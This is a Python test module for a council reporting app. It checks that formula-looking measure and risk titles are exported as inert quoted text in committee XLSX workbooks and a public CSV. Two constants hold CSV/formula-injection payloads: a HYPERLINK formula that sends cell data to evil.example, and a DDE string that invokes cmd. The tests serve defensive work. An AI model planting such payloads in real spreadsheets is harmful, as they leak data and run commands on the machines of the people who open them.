"""Text a person typed that looks like a formula comes out inert in the committee workbooks and the
public CSV (the issue-13 findings: live formulas in the quarterly and audit-risk workbooks, raw text
in the open-data CSV)."""

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from goldthread.core.documents import render
from goldthread.council.models import Role, User
from goldthread.performance.models import Measure
from goldthread.reports.models import ReportType
from goldthread.reports.pack import ReportContext, build_report
from goldthread.risk.models import Risk

MEASURE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
RISK_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile_titles(example, db):
    Measure.objects.filter(council=example).update(title=MEASURE_TITLE)
    Risk.objects.update(title=RISK_TITLE)
    return example


def _workbook(council, kind) -> bytes:
    user = User.objects.create_user(username=f"pack-{kind}", role=Role.PERFORMANCE)
    ctx = ReportContext(council=council, period="2023-24 Q2", audience="cabinet", user=user, as_of=date(2023, 11, 30))
    return render(build_report(kind, ctx), "xlsx")


def _assert_inert(data: bytes, text: str) -> None:
    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = load_workbook(io.BytesIO(data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == text]
    assert cells, "the hostile text should be in the workbook, kept as it was typed"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


@pytest.mark.parametrize(("kind", "text"), [(ReportType.QUARTERLY, MEASURE_TITLE), (ReportType.AUDIT_RISK, RISK_TITLE)])
def test_formula_looking_titles_are_text_in_the_committee_workbooks(hostile_titles, kind, text):
    _assert_inert(_workbook(hostile_titles, kind), text)


def test_formula_looking_titles_are_quoted_in_the_public_csv(hostile_titles, client):
    hostile_titles.publish_performance = True
    hostile_titles.save()
    response = client.get("/public/performance.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode().split("\n", 1)[1])))
    assert rows and {r["measure"] for r in rows} == {"'" + MEASURE_TITLE}
    assert all(not r["raw_value"].startswith("'") for r in rows)  # numbers, negative ones too, stay numbers
